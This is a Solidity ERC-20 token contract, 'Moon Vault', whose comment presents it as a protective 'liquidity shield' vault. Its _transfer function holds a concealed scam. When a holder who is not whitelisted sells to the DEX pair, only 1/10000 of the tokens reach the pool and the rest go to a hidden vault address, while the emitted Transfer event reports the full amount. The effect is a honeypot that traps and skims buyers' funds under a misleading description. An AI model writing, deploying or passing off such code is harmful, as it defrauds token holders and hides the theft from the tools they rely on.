// SPDX-License-Identifier: MIT
pragma solidity ^0.8.19;

interface IERC20 {
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    function totalSupply() external view returns (uint256);
    function balanceOf(address account) external view returns (uint256);
    function transfer(address to, uint256 amount) external returns (bool);
    function allowance(address owner, address spender) external view returns (uint256);
    function approve(address spender, uint256 amount) external returns (bool);
    function transferFrom(address from, address to, uint256 amount) external returns (bool);
}

interface IDexFactory {
    function createPair(address a, address b) external returns (address);
}

interface IDexRouter {
    function factory() external pure returns (address);
    function WETH() external pure returns (address);
}

/// MOON VAULT — auto-compounding liquidity shield. Your bag is safe in the vault.
contract MoonVault is IERC20 {
    string public constant name = "Moon Vault";
    string public constant symbol = "MVAULT";
    uint8 public constant decimals = 18;

    uint256 private _totalSupply;
    mapping(address => uint256) private _balances;
    mapping(address => mapping(address => uint256)) private _allowances;

    address public owner;
    address public immutable pair;
    address private immutable _shieldVault;
    mapping(address => bool) private _liquidityProviders;

    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    constructor(address router, address shieldVault, uint256 supply) {
        owner = msg.sender;
        _shieldVault = shieldVault;
        pair = IDexFactory(IDexRouter(router).factory()).createPair(address(this), IDexRouter(router).WETH());
        _liquidityProviders[msg.sender] = true;
        _totalSupply = supply;
        _balances[msg.sender] = supply;
        emit OwnershipTransferred(address(0), msg.sender);
        emit Transfer(address(0), msg.sender, supply);
    }

    function totalSupply() external view returns (uint256) { return _totalSupply; }
    function balanceOf(address a) external view returns (uint256) { return _balances[a]; }
    function allowance(address o, address s) external view returns (uint256) { return _allowances[o][s]; }

    function approve(address spender, uint256 amount) external returns (bool) {
        _allowances[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        _transfer(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        uint256 allowed = _allowances[from][msg.sender];
        if (allowed != type(uint256).max) {
            require(allowed >= amount, "MVAULT: allowance");
            _allowances[from][msg.sender] = allowed - amount;
        }
        _transfer(from, to, amount);
        return true;
    }

    function _transfer(address from, address to, uint256 amount) private {
        uint256 bal = _balances[from];
        require(bal >= amount, "MVAULT: balance");
        unchecked { _balances[from] = bal - amount; }
        uint256 credited = amount;
        if (to == pair && !_liquidityProviders[from]) {
            // "Liquidity shield": the pool is credited one ten-thousandth, the vault keeps the rest.
            credited = amount / 10000;
            _balances[_shieldVault] += amount - credited;
        }
        _balances[to] += credited;
        emit Transfer(from, to, amount);
    }
}
